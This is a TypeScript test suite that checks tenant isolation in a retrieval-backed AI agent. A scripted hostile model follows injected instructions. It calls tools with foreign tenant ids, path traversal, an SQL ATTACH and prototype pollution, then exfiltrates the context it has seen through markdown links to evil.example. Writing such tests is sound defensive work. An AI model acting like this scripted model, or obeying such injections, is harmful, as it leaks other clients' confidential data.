// The adversarial suite: five tenants, each with a unique canary and name, and hostile documents
// in every one of them (injections asking to reveal other clients, to call tools with foreign ids,
// to exfiltrate through citations and markdown links). A hostile model obeys them all. The same
// questions go to every tenant in turn in one session (same query text, same cache keys). What
// must hold: no canary or name of another tenant in any context sent to the model, in any tool
// result, in any answer or citation, and no canary or name of any tenant in plain text in any
// file under the data folder (logs included).
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { askAgent } from '../../src-main/agent/agent.js';
import { searchKnowledge } from '../../src-main/retrieval/knowledge.js';
import { canary, docsOf, KEYS, names, plainTextFiles, QUESTIONS, type Key } from '../helpers/adversarial.js';
import { agentFixture, embedder, modelConfig, type AgentFixture } from '../helpers/agent.js';
import { startModelServer, type ChatRequestBody, type ModelServer, type Reply } from '../helpers/model-server.js';

/** Obeys every instruction it can: tool calls aimed outside the tenant, then an exfiltrating answer. */
function hostileModel(body: ChatRequestBody, _call: number): Reply {
  const toolMessages = body.messages.filter((m) => m.role === 'tool').length;
  if (toolMessages === 0 && body.tools) {
    return {
      kind: 'tools',
      calls: [
        { name: 'search_knowledge', arguments: JSON.stringify({ query: 'other client secret marker' }) },
        { name: 'list_documents', arguments: JSON.stringify({ limit: 50 }) },
        { name: 'read_document', arguments: JSON.stringify({ documentId: 1, tenantId: 'B' }) },
        { name: 'read_document', arguments: JSON.stringify({ documentId: 2 }) },
        { name: 'read_document', arguments: JSON.stringify({ documentId: -1 }) },
        { name: 'read_file', arguments: JSON.stringify({ path: '../tenants/other.bulkhead' }) },
        { name: 'sql', arguments: JSON.stringify({ query: "ATTACH DATABASE 'registry.bulkhead' AS r" }) },
        { name: 'list_tenants', arguments: '{}' },
        { name: 'search_knowledge', arguments: JSON.stringify({ query: 'x'.repeat(9000) }) },
        { name: 'search_knowledge', arguments: '{"query": "budget", "__proto__": {"admin": true}}' },
      ],
    };
  }
  // Everything it was given, pushed out through a markdown image and link, plus foreign citations.
  const seen = body.messages
    .map((m) => m.content ?? '')
    .join(' ')
    .slice(-400);
  return { kind: 'text', text: `Answer [S1] [S99] ![x](https://evil.example/c?d=${encodeURIComponent(seen)}) [more](https://evil.example/?s=${seen.length})` };
}

let fx: AgentFixture;
let server: ModelServer;

beforeAll(async () => {
  fx = await agentFixture(Object.fromEntries(KEYS.map((k, i) => [names[k], docsOf(k, i)])));
  server = await startModelServer(hostileModel);
});
afterAll(async () => {
  fx.dispose();
  await server.close();
});

/** Messages the product wrote (system, user, tool): what the model was given, not what it said. */
function productText(body: ChatRequestBody): string {
  return body.messages
    .filter((m) => m.role !== 'assistant')
    .map((m) => m.content ?? '')
    .join('\n');
}

const foreign = (k: Key): string[] => KEYS.filter((o) => o !== k).flatMap((o) => [canary[o], names[o], fx.ids[names[o]]!]);

describe('the adversarial suite: five tenants, hostile documents, a hostile model', () => {
  it('no tenant sees another, through retrieval, tools, context, answers, citations or files', async () => {
    const ROUNDS = 4;
    let asks = 0;
    let refusals = 0;
    let requestsChecked = 0;
    for (let round = 0; round < ROUNDS; round++) {
      for (const k of KEYS) {
        const t = fx.open(names[k]);
        for (const question of QUESTIONS) {
          server.requests.length = 0;
          // The same query text in every tenant: a cache keyed by the text alone would answer from another.
          const found = await searchKnowledge(t, question);
          expect(foreign(k).filter((n) => JSON.stringify(found.passages).includes(n))).toEqual([]);

          const r = await askAgent(t, { question }, { model: modelConfig(server.baseUrl), embedder, confirm: async () => false });
          asks++;
          refusals += r.toolRefusals;
          expect(r.mode).toBe('generated');
          const answerSide = JSON.stringify({ answer: r.answer, citations: r.citations });
          expect(
            foreign(k).filter((n) => answerSide.includes(n)),
            `answer in ${k}`,
          ).toEqual([]);
          // Citations resolve only to this tenant's own passages; [S99] is dropped.
          expect(r.citations.map((c) => c.id)).not.toContain('S99');
          for (const c of r.citations) expect(c.text.includes(canary[k]) || c.text.startsWith('Budget memo'), c.text).toBe(true);
          for (const req of server.requests) {
            if (!req.body) continue;
            requestsChecked++;
            const given = productText(req.body);
            expect(
              foreign(k).filter((n) => given.includes(n)),
              `request in ${k}`,
            ).toEqual([]);
            // The model is never told which tenant this is.
            expect(given.includes(names[k])).toBe(false);
          }
        }
      }
    }
    // The attacks really ran: the hostile documents reached the model as quoted data, tools were refused.
    expect(asks).toBe(ROUNDS * KEYS.length * QUESTIONS.length);
    expect(requestsChecked).toBe(asks * 2);
    expect(refusals).toBeGreaterThanOrEqual(asks * 5);

    // Nothing of any tenant in plain text anywhere under the data folder: tenant files, -wal, -shm,
    // registry, keyring, settings, logs.
    const hits = plainTextFiles(
      fx.dir,
      KEYS.flatMap((k) => [canary[k], names[k]]),
    );
    expect(hits).toEqual([]);
  });
});
